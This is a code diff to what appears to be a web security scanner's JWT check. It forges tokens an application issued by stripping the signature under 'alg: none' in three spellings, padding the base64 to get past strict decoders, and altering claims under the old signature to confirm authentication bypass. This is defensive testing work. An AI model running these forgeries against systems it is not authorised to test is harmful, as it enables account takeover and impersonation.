@@ -1,6 +1,13 @@
-"""JWT: a token the app issued (seen in a response or given with --as) is re-sent forged:
-`alg: none` with no signature, and claims changed under the old signature. Either being
-accepted where a junk token is refused confirms it; the forged claims carry a unique canary."""
+"""JWT: a token the app issued (seen in a response, given with --as, or from a --login) is
+re-sent forged: `alg: none` with no signature, and claims changed under the old signature.
+Either being accepted where a junk token is refused confirms it; the forged claims carry a
+unique canary.
+
+`none` is also spelled `None` and `NONE`: code that compares the algorithm case-sensitively
+(a blacklist of "none", or its own branch for "NONE") skips verification for one spelling and
+not the others. The forged parts are base64url whose JSON is padded with spaces to a multiple of
+3 bytes, so they need no `=` and a decoder that insists on padding (Python's b64decode) reads
+them too. The token goes back with the scheme it came with (`JWT eyJ...`, Flask-JWT's)."""
 
 from __future__ import annotations
 
@@ -28,28 +35,44 @@ def _claims(tok: str) -> dict[str, object] | None:
     return data if isinstance(data, dict) else None
 
 
+def _b64_json(data: dict[str, object]) -> str:
+    """base64url of the JSON, spaces added so that it needs no padding."""
+    raw = json.dumps(data, separators=(",", ":")).encode()
+    return _b64(raw + b" " * (-len(raw) % 3))
+
+
+NONE_SPELLINGS = ("none", "None", "NONE")
+
+
 def forged(tok: str, canary: str) -> list[tuple[str, str]]:
-    """(how, token) pairs: alg none, and claims changed under the original signature."""
+    """(how, token) pairs: alg none (each spelling), and claims changed under the original signature."""
     claims = _claims(tok)
     if claims is None:
         return []
-    changed = _b64(json.dumps({**claims, "auditor": canary}, separators=(",", ":")).encode())
+    changed = _b64_json({**claims, "auditor": canary})
     header, _, sig = tok.split(".")
-    none_header = _b64(json.dumps({"alg": "none", "typ": "JWT"}).encode())
-    return [("alg none", f"{none_header}.{changed}."), ("tampered claims, old signature", f"{header}.{changed}.{sig}")]
+    nones = [(f"alg {alg}", f"{_b64_json({'alg': alg, 'typ': 'JWT'})}.{changed}.") for alg in NONE_SPELLINGS]
+    return [*nones, ("tampered claims, old signature", f"{header}.{changed}.{sig}")]
 
 
-def _found_token(history: list[Exchange], identity: dict[str, str]) -> tuple[str, str] | None:
-    """(where, token): where is 'bearer' or a cookie name."""
-    for name, value in identity.items():
-        if m := JWT.search(value):
-            return ("bearer" if name.lower() == "authorization" else name, m.group(0))
+def _found_token(history: list[Exchange], identities: list[dict[str, str]]) -> tuple[str, str, str] | None:
+    """(where, token, prefix): where is a header name or 'cookie:NAME'; prefix is what came
+    before the token in that header (its scheme)."""
+    for identity in identities:
+        for name, value in identity.items():
+            if name.lower() == "cookie":
+                for part in value.split(";"):
+                    key, _, val = part.strip().partition("=")
+                    if m := JWT.fullmatch(val.strip()):
+                        return ("cookie:" + key, m.group(0), "")
+            elif m := JWT.search(value):
+                return (name, m.group(0), value[:m.start()])
     for ex in history:
         for v in ex.header_values("set-cookie"):
             if m := JWT.search(v):
-                return (v.split("=", 1)[0].strip(), m.group(0))
+                return ("cookie:" + v.split("=", 1)[0].strip(), m.group(0), "")
         if m := JWT.search(ex.text):
-            return ("bearer", m.group(0))
+            return ("Authorization", m.group(0), "Bearer ")
     return None
 
 
@@ -57,23 +80,26 @@ class JwtForgery(SiteCheck):
     name = "jwt"
 
     def run(self, sender: Sender, ctx: ProbeContext, routes: list[Route]) -> list[Confirmation]:
-        found = _found_token(getattr(sender, "token_responses", []), getattr(sender, "identity", {}))
+        identities = [getattr(sender, "identity", {}), *(headers for _, headers in ctx.identities)]
+        found = _found_token(getattr(sender, "token_responses", []), identities)
         if found is None:
             return []
-        where, tok = found
+        where, tok, prefix = found
 
         def send(path: str, value: str) -> Exchange:
-            if where == "bearer":
-                return sender.request("GET", path, headers={"Authorization": f"Bearer {value}"})
-            return sender.request("GET", path, headers={"Cookie": f"{where}={value}"})
+            if where.startswith("cookie:"):
+                return sender.request("GET", path, headers={"Cookie": f"{where[7:]}={value}"})
+            return sender.request("GET", path, headers={where: f"{prefix}{value}"})
 
         gets = [r for r in routes if r.method == "GET" and "{" not in r.path]
         gets.sort(key=lambda r: not any(p.location in ("header", "cookie") for p in r.params))
         candidates = [r.path for r in gets][:MAX_ROUTES]
         for path in candidates:
             good = send(path, tok)
-            anonymous = sender.request("GET", path)
-            if good.status != 200 or same(good, anonymous, []):
+            # A junk token in the same place, not a bare request: with a login, a bare request
+            # would still carry the session.
+            junk = send(path, f"{_b64_json({'alg': 'HS256', 'typ': 'JWT'})}.{_b64_json({'sub': token()})}.x")
+            if good.status != 200 or same(good, junk, []):
                 continue  # the route does not depend on the token
             for how, forgery in forged(tok, token()):
                 canary = forgery.split(".")[1]
